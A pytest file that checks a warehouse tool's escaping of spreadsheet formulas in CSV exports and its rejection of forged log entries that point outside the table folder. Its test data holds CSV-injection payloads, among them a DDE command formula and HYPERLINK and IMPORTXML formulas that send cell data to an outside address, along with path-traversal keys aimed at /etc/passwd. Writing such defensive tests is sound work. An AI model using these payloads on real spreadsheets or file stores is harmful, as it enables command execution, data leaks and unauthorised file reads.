"""Names chosen to do harm: a spreadsheet runs none of them, and no key of a log leaves its folder."""

import csv
import io
from pathlib import Path

import pytest

from orchestration.workshop import open_workshop
from tests.orchestration.cli.conftest import pulled, sandbox
from warehouse.archive.errors import ObjectAltered
from warehouse.archive.state import TableFile
from warehouse.config import load
from warehouse.evidence.csv_cells import write_csv
from warehouse.finops.customer_files import csv_bytes
from warehouse.tables.file_rows import rows_of

__all__ = ["pulled", "sandbox"]

FORMULAS = [
    "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20x",
    "=HYPERLINK(\"https://198.51.100.9/?\"&A1)", "=IMPORTXML(\"https://198.51.100.9\",\"//a\")",
]  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS)
def test_no_spreadsheet_runs_a_cell_of_a_statement_or_a_pack(tmp_path: Path, text: str) -> None:
    (_, (cell,)) = csv.reader(io.StringIO(csv_bytes(("name",), [(text,)]).decode(), newline=""))
    assert cell == f"'{text}"
    write_csv(tmp_path / "x.csv", ("name",), [(text,)])
    with (tmp_path / "x.csv").open(encoding="utf-8", newline="") as file:
        (_, (cell,)) = csv.reader(file)
    assert cell == f"'{text}"


@pytest.mark.parametrize(
    "key",
    [
        "../../../../etc/passwd", "tables/../../x.parquet", "/etc/passwd", "tables/recent/a\nb.parquet",
        "log/entry/000000000000.json", "tables//x.parquet", "",
    ],
)  # fmt: skip
def test_no_entry_of_a_log_has_a_file_outside_the_tables_read(pulled: Path, key: str) -> None:
    """Whoever may write to the store, and has no key to sign with, could write such an entry."""
    with open_workshop(load(pulled / "ledgerline.toml"), for_writing=False) as workshop:
        workshop.archive.refresh()
        forged = TableFile(key=key, version_id=None, sha256="0" * 64, dt="2026-11-20", rows=1, bytes=1)
        with pytest.raises(ObjectAltered, match="ledgerline verify"):
            rows_of(workshop.archive, [forged])
